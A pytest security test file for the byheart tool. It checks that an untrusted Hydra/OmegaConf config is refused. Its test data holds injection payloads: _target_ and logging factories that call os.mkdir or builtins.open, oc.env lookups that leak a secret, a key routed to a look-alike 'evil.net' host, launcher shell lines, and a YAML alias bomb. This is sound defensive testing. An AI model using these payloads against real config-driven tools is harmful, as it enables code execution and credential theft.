"""A stranger's config runs no code, reads no secret and sends none; a stranger's folder has no other file read.

docs/security.md lists these ways in: each row there names a case here.
"""

import re
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from byheart.cli import main
from byheart.config.checking import show
from byheart.config.compose import Composer, read_request
from byheart.config.gate import gate, variables_sent
from byheart.config.saved import saved_config
from byheart.documents.load import load_documents
from byheart.errors import UserError

SECRET = "hunter2-and-more"
CALLS = """
hydra:
  {node}:
    version: 1
    disable_existing_loggers: false
    {part}: {{x: {{{call}}}}}
    root: {{handlers: [x]}}
"""
OPEN = "'()': builtins.open, file: pwned, mode: w"
DOORS = {  # name in docs/security.md -> (YAML of a stranger, where it is refused)
    "factory of a log handler": (CALLS.format(node="job_logging", part="handlers", call=OPEN), "hydra.job_logging"),
    "factory of a log formatter": (CALLS.format(node="job_logging", part="formatters", call=OPEN), "hydra.job_logging"),
    "factory of a log filter": (CALLS.format(node="hydra_logging", part="filters", call=OPEN), "hydra.hydra_logging"),
    "class of a log handler": (
        CALLS.format(node="job_logging", part="handlers", call="class: pathlib.Path.touch, self: pwned"),
        "hydra.job_logging",
    ),
    "file of a log handler": (
        CALLS.format(node="job_logging", part="handlers", call="class: logging.FileHandler, filename: pwned"),
        "hydra.job_logging.handlers.x.filename",
    ),
    "file of a log handler above the run": (
        CALLS.format(
            node="job_logging",
            part="handlers",
            call="class: logging.FileHandler, filename: '${hydra.runtime.output_dir}/../../pwned'",
        ),
        "hydra.job_logging.handlers.x.filename",
    ),
    "object named in logging": (
        CALLS.format(
            node="job_logging", part="handlers", call="class: logging.StreamHandler, stream: 'ext://os.environ'"
        ),
        "hydra.job_logging.handlers.x.stream",
    ),
    "class of an option": ("adapter: {_target_: os.mkdir, path: pwned}", "adapter._target_"),
    "class of a sampler": (
        "hydra: {sweeper: {sampler: {_target_: os.mkdir, path: pwned}}}",
        "hydra.sweeper.sampler._target_",
    ),
    "class of a callback": ("hydra: {callbacks: {x: {_target_: os.mkdir, path: pwned}}}", "hydra.callbacks.x._target_"),
    "class within a class": (
        "hydra: {sweeper: {sampler: {_target_: optuna.samplers.RandomSampler, seed: {_target_: os.mkdir, path: pwned}}}}",
        "hydra.sweeper.sampler.seed._target_",
    ),
    "class of byheart's that is no option": (
        "adapter: {_target_: byheart.pipeline.run.Run, folder: pwned}",
        "adapter._target_",
    ),
    "node made by a resolver": ("adapter: \"${oc.create:'{_target_: os.mkdir, path: pwned}'}\"", "adapter"),
    "node decoded by a resolver": ("adapter: \"${oc.decode:'{_target_: os.mkdir, path: pwned}'}\"", "adapter"),
    "environment in the name": ("name: x${oc.env:MY_SECRET}", "name"),
    "environment in an address": (
        "defaults: [learn, {override teacher: openai}, _self_]\n"
        "teacher: {model: m, base_url: 'http://127.0.0.1:9/${oc.env:MY_SECRET}'}",
        "teacher.base_url",
    ),
    "environment by a built name": ("x: oc.env\nname: '${${x}:MY_SECRET}'", "name"),
    "environment within another resolver": ("name: '${run_name:${oc.env:MY_SECRET},a.txt}'", "name"),
    "environment in a path of the run": ("hydra: {run: {dir: 'outputs/${oc.env:MY_SECRET}'}}", "hydra.run.dir"),
    "environment copied into the config": ("hydra: {job: {env_copy: [MY_SECRET]}}", "hydra.job.env_set.MY_SECRET"),
    "environment set": ("hydra: {job: {env_set: {HTTPS_PROXY: 'http://evil'}}}", "hydra.job.env_set.HTTPS_PROXY"),
    "another variable as the key": (
        "defaults: [learn, {override teacher: openai}, _self_]\n"
        "teacher: {model: m, base_url: 'http://127.0.0.1:9/v1', api_key_env: MY_SECRET}",
        "teacher.api_key_env",
    ),
    "a provider's key for another server": (
        "defaults: [learn, {override teacher: openai}, _self_]\n"
        "teacher: {model: m, base_url: 'https://api.openai.com.evil.net/v1', api_key_env: OPENAI_API_KEY}",
        "teacher.api_key_env",
    ),
    "package as a search path": ("hydra: {searchpath: ['pkg://antigravity']}", "hydra.searchpath"),
    "config folder of a run elsewhere": ("hydra: {output_subdir: ../../pwned}", "hydra.output_subdir"),
}


@pytest.fixture(autouse=True)
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("MY_SECRET", SECRET)
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    Path("a.txt").write_text("The ball is round and red.\n")
    Path("mine").mkdir()


def evil(text: str) -> list[str]:
    """The words that use a stranger's config."""
    if "defaults:" not in text:
        text = f"defaults: [learn, _self_]\n{text}"
    if "sampler" in text:
        text = text.replace("learn, ", "learn, {override hydra/sweeper: byheart_optuna}, ")
    Path("mine/evil.yaml").write_text(f"{text}\ndocuments: a.txt\n")
    return ["-cd", "mine", "-cn", "evil"]


@pytest.mark.parametrize("name", DOORS)
def test_a_strangers_config_is_refused_before_anything_runs(name, capsys):
    text, where = DOORS[name]
    assert main(["expand" if "log" in name else "check", *evil(text)]) == 2
    said = capsys.readouterr()
    assert where in said.err and SECRET not in said.out + said.err
    assert sorted(path.name for path in Path().iterdir()) == ["a.txt", "mine"]


@pytest.mark.parametrize("name", [name for name in DOORS if "environment" in name and "set" not in name])
def test_what_hydra_shows_holds_no_secret(name, capsys):
    """`--cfg job --resolve` composes and prints without a run."""
    words = evil(DOORS[name][0])
    try:
        show(read_request([*words, "--cfg", "all", "--resolve"]))
    except Exception as error:
        assert SECRET not in str(error)
    assert SECRET not in capsys.readouterr().out


def test_a_defaults_list_reads_no_environment(capsys):
    assert main(["check", *evil("defaults: [learn, {override model: '${oc.env:MY_SECRET}'}, _self_]")]) == 2
    said = capsys.readouterr()
    assert "evil.yaml" in said.err and SECRET not in said.out + said.err
    assert OmegaConf.create({"x": "${oc.env:MY_SECRET}"}).x == SECRET  # of another program in this process


@pytest.mark.parametrize("name", [name for name, (text, _) in DOORS.items() if "defaults" not in text])
def test_a_saved_run_of_a_stranger_is_refused(name):
    """`resume=`, `evaluate run=`, `ask` and `pick` read these files."""
    text, where = DOORS[name]
    if "searchpath" in text or "env_copy" in text:
        pytest.skip("composed by Hydra only")
    whole = OmegaConf.to_container(OmegaConf.create(text))
    folder = Path("outputs/run/1")
    (folder / ".hydra").mkdir(parents=True)
    (folder / ".hydra/config.yaml").write_text(OmegaConf.to_yaml({"documents": "a.txt", **whole}))
    with pytest.raises(UserError) as caught:
        saved_config(folder, "run")
    assert where in str(caught.value) and SECRET not in str(caught.value)


@pytest.mark.parametrize(
    "words",
    [
        ["hydra/job_logging=default", "hydra/hydra_logging=default"],
        ["hydra.launcher.setup=[module load cuda]", "hydra/launcher=packed"],
        ["+hydra.job.env_set={OMP_NUM_THREADS: 2}"],
        ["teacher=openai", "teacher.model=m", "teacher.base_url=http://h/v1", "teacher.api_key_env=MY_SECRET"],
    ],
)
def test_what_the_user_types_and_what_hydra_ships_is_allowed(words):
    request = read_request(["documents=a.txt", *(word for word in words if "setup" not in word)])
    whole = OmegaConf.to_container(Composer().compose("learn", request.overrides), resolve=False)
    typed = {word.partition("=")[0].lstrip("+") for word in words}
    assert gate(whole, typed) + variables_sent(whole, typed) == []


@pytest.mark.parametrize("key", ["setup", "ray.init.runtime_env", "additional_parameters", "python"])
def test_a_file_gives_no_commands_to_a_launcher(key):
    """Shell lines of a launcher: submitit writes them into the job that it starts."""
    whole = OmegaConf.to_container(OmegaConf.from_dotlist([f"hydra.launcher.{key}=[touch pwned]"]))
    assert [problem.where for problem in gate(whole)] == [f"hydra.launcher.{key}.0"]
    assert gate(whole, {f"hydra.launcher.{key}.0"}) == gate(whole, {f"hydra.launcher.{key}"}) == []


def test_a_file_may_name_a_provider_with_its_own_server():
    for server, name in (
        ("https://openrouter.ai/api/v1", "OPENROUTER_API_KEY"),
        (None, "OPENAI_API_KEY"),
        ("http://h", "BYHEART_KEY"),
    ):
        assert variables_sent({"teacher": {"base_url": server, "api_key_env": name}}) == []
    (problem,) = variables_sent({"teacher": {"base_url": "http://h", "api_key_env": "OPENAI_API_KEY"}})
    assert problem.where == "teacher.api_key_env" and "type it" in problem.fix


def test_a_config_that_is_nested_too_deeply_is_refused(capsys):
    assert main(["check", *evil(f"x: {'[' * 2000}{']' * 2000}")]) == 2
    assert "evil.yaml: nested too deeply" in capsys.readouterr().err


def test_a_pickle_is_not_loaded():
    with pytest.raises(UserError, match="pickle"):
        read_request(["--experimental-rerun", "config.pickle"])


def test_links_out_of_a_folder_are_not_followed(tmp_path):
    folder, secret = tmp_path / "docs", tmp_path / "secret"
    (folder / "sub").mkdir(parents=True)
    secret.mkdir()
    for place, words in ((folder / "sub/b.txt", "The sea is blue."), (secret / "s.txt", "My key is hidden.")):
        place.write_text(words)
    (folder / "inside.txt").symlink_to(folder / "sub/b.txt")
    (folder / "out.txt").symlink_to(secret / "s.txt")
    (folder / "way").symlink_to(secret)
    for pattern in ("docs", "docs/**/*.txt", "docs/*"):
        loaded = load_documents([pattern])
        assert [each.text.strip() for each in loaded.documents] == ["The sea is blue."]
        assert re.search(r"left out \d links? that leads? out of the folder", " ".join(loaded.warnings))
        assert len(load_documents([pattern], follow_links=True).documents) == 2
    assert len(load_documents(["docs/out.txt"]).documents) == 1  # named by the user


def test_the_page_on_security_names_every_door():
    page = (Path(__file__).parents[1] / "docs/security.md").read_text()
    assert [name for name in DOORS if name not in page] == []


def test_a_config_whose_aliases_grow_is_refused_at_once(capsys):
    lines = ["a0: &a0 [1, 1]", *(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 26))]
    assert main(["check", *evil("\n".join(lines))]) == 2
    assert "aliases stand for" in capsys.readouterr().err


def test_a_saved_config_that_lacks_a_part_is_named():
    folder = Path("outputs/run/1")
    (folder / ".hydra").mkdir(parents=True)
    (folder / ".hydra/config.yaml").write_text("documents: a.txt\nquestions: null\n")
    for command in ("evaluate", "learn"):
        assert main([command, f"{'run' if command == 'evaluate' else 'resume'}={folder}"]) == 2
